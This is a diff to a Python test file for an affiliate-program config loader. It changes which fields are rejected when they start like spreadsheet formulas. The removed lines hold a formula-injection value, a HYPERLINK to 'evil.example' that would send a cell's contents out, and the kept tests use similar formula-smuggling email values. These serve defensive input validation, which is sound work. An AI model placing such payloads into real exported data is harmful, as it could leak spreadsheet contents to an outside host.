@@ -386,27 +386,32 @@ def test_a_payout_email_that_is_not_an_address_is_refused_naming_the_affiliate(
 @pytest.mark.parametrize(
     ("key", "value"),
     [
-        pytest.param("name", '=HYPERLINK("http://evil.example/?x="&A1,"click")', id="name-formula"),
-        pytest.param("email", "=1+2@evil.example", id="email-equals"),
         pytest.param("paypal_email", "+SUM(1)@evil.example", id="paypal-plus"),
+        pytest.param("paypal_email", "=1+2@evil.example", id="paypal-equals"),
         pytest.param("wise_email", "-2+3@evil.example", id="wise-minus"),
-        pytest.param("name", "@SUM(1)", id="name-at"),
     ],
 )
-def test_an_affiliate_value_a_spreadsheet_would_run_as_a_formula_is_refused(
+def test_a_payout_email_a_spreadsheet_would_run_as_a_formula_is_refused(
     tmp_path: Path, key: str, value: str
 ) -> None:
     path = tmp_path / "program.toml"
-    name = "" if key == "name" else 'name = "Jane"\n'
-    path.write_text(f"[[affiliates]]\nid = 'jane'\n{name}{key} = '{value}'\n", encoding="utf-8")
+    path.write_text(f"[[affiliates]]\nid = 'jane'\nname = 'Jane'\n{key} = '{value}'\n", encoding="utf-8")
 
     with pytest.raises(ProgramError) as refused:
         load_program(path)
 
     assert f"affiliates[0] (id 'jane').{key}: " in str(refused.value)
-    assert "a spreadsheet opening the payout or commission files would run it as a formula" in str(
-        refused.value
-    )
+    assert "would run it as a formula" in str(refused.value)
+
+
+def test_a_name_or_contact_email_starting_like_a_formula_loads_as_written(tmp_path: Path) -> None:
+    # Review: an influencer's "@handle" as a name is ordinary; exports write such text safely.
+    path = tmp_path / "program.toml"
+    path.write_text("[[affiliates]]\nid = 'theo'\nname = '@theomarsh'\nemail = '+theo@example.com'\n")
+
+    (theo,) = load_program(path).affiliates
+
+    assert (theo.name, theo.email) == ("@theomarsh", "+theo@example.com")
 
 
 def test_the_readme_program_example_loads_and_each_offer_pays_what_its_name_says(tmp_path: Path) -> None:
